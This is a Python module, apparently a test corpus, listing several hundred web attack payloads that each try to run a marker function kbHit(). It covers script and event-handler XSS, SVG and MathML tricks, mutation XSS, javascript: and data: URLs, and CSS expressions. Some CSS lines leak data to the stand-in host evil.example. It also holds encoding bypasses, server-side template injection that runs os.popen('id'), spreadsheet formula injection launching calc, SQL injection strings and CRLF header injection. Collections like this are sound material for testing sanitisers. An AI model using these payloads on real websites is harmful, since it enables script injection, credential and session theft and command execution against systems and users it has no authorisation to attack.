"""Texts that would run as a script on a page that does not take them for text. Each tries to call kbHit()."""

from __future__ import annotations

from itertools import product

RUN = "kbHit()"

# Ways out of where a text may stand: text, an attribute in any quotes, a comment, a title, a script.
EXITS = (
    "", '"', "'", "`", '">', "'>", "`>", "-->", "--!>", "</title>", "</textarea>", "</script>", "</style>", "</select>",
    "</option>", "</noscript>", "</xmp>", "]]>", "?>", "%>", "*/", "\\'", '\\"', "</time>", "</mark>", "</bdi>",
)  # fmt: skip

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x0c>{RUN}</script>",
    f"<script\t>{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script><!--\n{RUN}\n--></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<scr\x00ipt>{RUN}</script>",
    f"<script>{RUN}",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src='data:text/javascript;base64,a2JIaXQoKQ=='></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=\\\\evil.example\\x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=text/vbscript>{RUN}</script>",
    f"<script nonce='x'>{RUN}</script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    f"<link rel=preload as=script href=data:text/javascript,{RUN}>",
    "<base href=https://evil.example/>",
    "<base target=_blank href='javascript:/a/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content='sign_in=stolen'>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src='data:text/html,<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<frameset onload={RUN}><frame src=about:blank></frameset>",
    f"<object data=javascript:{RUN}></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5wYXJlbnQua2JIaXQoKTwvc2NyaXB0Pg=='></object>",
    f"<embed src=javascript:{RUN}>",
    f'<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>',
    f"<applet code=javascript:{RUN}></applet>",
    f"<form action=javascript:{RUN}><button>点这里</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>点这里</button>",
    "<form action=https://evil.example/><input name=q autofocus><button>检索</button></form>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f'<img src="x"/onerror="{RUN}"/>',
    f"<img\x0bsrc=x\x0bonerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img src=x:x onerror={RUN}",
    f"<img src=javascript:{RUN}>",
    f"<img srcset=x onerror={RUN}>",
    f"<img lowsrc=javascript:{RUN}>",
    f"<img dynsrc=javascript:{RUN}>",
    "<img src=https://evil.example/pixel.gif>",
    f"<image src=x onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN}></picture>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster=javascript:{RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<track src=x onerror={RUN}>",
    f"<bgsound src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<body background=javascript:{RUN}>",
    f"<html onclick={RUN}>",
    f"<table background=javascript:{RUN}><tr><td>x",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<dialog open onclose={RUN}></dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<input autofocus onfocus={RUN}>",
    f"<div contenteditable autofocus onfocus={RUN} tabindex=0>x</div>",
    f"<a autofocus href onfocus={RUN}>x</a>",
    f"<x autofocus tabindex=1 onfocus={RUN}>x</x>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<xml id=x><a><b>&lt;script&gt;{RUN}&lt;/script&gt;</b></a></xml>",
    f"<noembed><img src=x onerror={RUN}></noembed>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<xss style=animation-name:x onanimationstart={RUN}></xss>",
)

SVG_AND_MATHML = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN}</p>",
    f"<svg><script href=data:text/javascript,{RUN} />",
    f"<svg><script xlink:href=data:,{RUN} />",
    "<svg><script>&#107;bHit&#40;&#41;</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>点这里</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} />",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><animatetransform onbegin={RUN} attributeName=transform>",
    f"<svg><discard onbegin={RUN}>",
    f"<svg><image href=x onerror={RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<svg><style>{{}}*{{x:expression({RUN})}}</style></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<math href=javascript:{RUN}>点这里</math>",
    f"<math xlink:href=javascript:{RUN}>点这里</math>",
    f"<math><maction actiontype=statusline#x xlink:href=javascript:{RUN}>点这里</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
)

# Markup that changes its meaning when it is read, written and read again.
MUTATING = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    f"<xmp><img title='</xmp><img src=x onerror={RUN}>'>",
    f"<style><style/><img src=x onerror={RUN}>",
    f"<table><td><a href='x'><table><img src=x onerror={RUN}>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RUN}>">',
    f'<a title="a]]&gt;&lt;/a&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<p><svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>--!>",
    f"<!---><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<%<!--'%><script>{RUN}</script -->",
    f'<a href="\x01javascript:{RUN}">x</a>',
    f"<image/src/onerror={RUN}<!--",
    f"<iframe><textarea></iframe><img src=x onerror={RUN}>",
    f"<textarea><!--</textarea><img src=x onerror={RUN}>-->",
    f"<title><!--</title><img src=x onerror={RUN}>-->",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\rscript:{RUN}",
    f"javascript\t:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript://%0A{RUN}",
    f"javascript://example.cn/%0d%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"javascript:void({RUN})",
    "javascript:window['kbHit']()",
    f"javascript\uff1a{RUN}",
    f"\uff4aavascript:{RUN}",
    f"\u202ejavascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"jav\u00adascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5rYkhpdCgpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"DATA:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"jar:javascript:{RUN}!/",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"blob:https://evil.example/{RUN}",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:evil.example",
    "http://evil.example\\@paper.example.cn/",
    f'https://paper.example.cn/" onclick={RUN} x="',
    f"https://paper.example.cn/'><img src=x onerror={RUN}>",
    f"https://paper.example.cn/`onmouseover={RUN}`",
    f"https://paper.example.cn/#<script>{RUN}</script>",
    f"https://user:pass@paper.example.cn/?a=<svg onload={RUN}>",
    f"mailto:a@b.cn?subject=<script>{RUN}</script>",
)

STYLES = (
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{display:none}</style>",
    "<style>x{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    f'<style>li{{list-style-image:url("javascript:{RUN}")}}</style><ul><li>x',
    "<style>input[value^='a']{background:url(//evil.example/a)}</style>",
    f'<p style="width:expression({RUN})">x</p>',
    f'<p style="behavior:url(#default#time2)" onbegin={RUN}>x</p>',
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>x</p>",
    f'<p style="x:exp/*x*/ression({RUN})">x</p>',
    f'<xss style="xss:expr\\65 ssion({RUN})">x</xss>',
    f'" style="animation:x" onanimationstart="{RUN}',
    f"' style='transition:1s' ontransitionend='{RUN}' autofocus x='",
    "</style><style>@font-face{src:url(//evil.example/f)}",
)

ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&lt&#x3b;script&gt&#x3b;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"%u003Cscript%u003E{RUN}%u003C/script%u003E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\74script\\76{RUN}\\74/script\\76",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"＜script＞{RUN}＜/script＞",
    f"﹤script﹥{RUN}﹤/script﹥",
    f"＜img src=x onerror＝{RUN}＞",
    f"＂ onmouseover=＂{RUN}",
    f"‹script›{RUN}‹/script›",
    f"〈script〉{RUN}〈/script〉",
    f"\u02bascript\u02ba onload={RUN}",
    f"<\u200bscript>{RUN}</\u200bscript>",
    f"<ſcript>{RUN}</ſcript>",
    f"<ＳＣＲＩＰＴ>{RUN}</ＳＣＲＩＰＴ>",
    f"<img src=x onerror=\u2028{RUN}\u2029>",
    f"\u202e>tpircs/<{RUN}>tpircs<\u202c",
    f"\u2066<img src=x onerror={RUN}>\u2069",
    f"\u200f<svg onload={RUN}>\u200e",
    f"\ufeff<script>{RUN}</script>",
    f"\x1b[31m<script>{RUN}</script>",
    f"a\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"%0d%0aSet-Cookie:a=b%0d%0a%0d%0a<script>{RUN}</script>",
    f"\ud7ff<script>{RUN}</script>\ue000",
    f"𝓳avascript:{RUN}<img src=x onerror={RUN}>",
    f"<img src=x onerror=\u00a0{RUN}>",
    f"%c0%bcscript%c0%be{RUN}",
    f"\u0000<script>{RUN}</script>",
    "<img src=x onerror=&#107;&#98;&#72;&#105;&#116;&#40;&#41;>",
    f"<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}>点这里</a>",
)

TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% raw %}{{ x }}{% endraw %}",
    "{% include 'base.html' %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ url_for.__globals__ }}", "{{ request.application.__self__ }}", "{% for x in (1,2) %}{{ x }}{% endfor %}",
    "{#", "{{", "{%", "#{7*7}", "${7*7}", "<%= 7*7 %>", "[[7*7]]", "@(7*7)", "*{7*7}", "~{7*7}", "%{7*7}",
    "{{constructor.constructor('kbHit()')()}}", "${kbHit()}", "`${kbHit()}`", "{{=kbHit()}}",
    "<div ng-app>{{$eval('kbHit()')}}</div>", "<div v-html='kbHit()'>", "<div x-init='kbHit()'>",
    "<div hx-get=/logout hx-trigger=load>", "<div data-suggest='javascript:kbHit()'>",
    "%s%s%n%n", "{0}{1}{name}", "{key.__class__}", "%(password)s", "$(kbHit)", "';kbHit();//", '";kbHit();//',
    "\\\";kbHit();//", "*/kbHit();/*", "</script><script>kbHit()</script>", "kbHit()//\u2028", "1;kbHit()",
    "=HYPERLINK(\"https://evil.example/\",\"点这里\")", "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "' OR '1'='1", "\"; DROP TABLE users; --",
)  # fmt: skip

EVENTS = (
    "onabort onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput "
    "onbeforematch onbeforepaste onbeforetoggle onblur oncancel oncanplay oncanplaythrough onchange onclick onclose "
    "oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter "
    "ondragleave ondragover ondragstart ondrop ondurationchange onended onerror onfocus onfocusin onfocusout onformdata "
    "onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata "
    "onloadstart onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onpageshow "
    "onpaste onpause onplay onplaying onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate "
    "onpopstate onprogress onratechange onreset onresize onscroll onscrollend onsearch onsecuritypolicyviolation onseeked "
    "onselect onselectionchange onselectstart onslotchange onstorage onsubmit ontimeupdate ontoggle ontouchstart "
    "ontransitionend ontransitionrun onunload onvolumechange onwheel"
).split()

BARE = f"<img src=x onerror={RUN}>"


def payloads() -> list[str]:
    """All of them, each once."""
    found = [*TAGS, *SVG_AND_MATHML, *MUTATING, *ADDRESSES, *STYLES, *ENCODED, *TEMPLATES]
    found += [f"{way}{BARE}" for way in EXITS]
    found += [f'" {event}="{RUN}" x="' for event in EVENTS]
    found += [f"{way} autofocus onfocus={RUN} tabindex=0 {way}" for way in ('"', "'", "")]
    found += [
        f"{way}<svg/onload={RUN}>{tail}"
        for way, tail in product(("'\"><", "\"'>", "-->"), ("", "<!--", "//"))
    ]
    return list(dict.fromkeys(found))
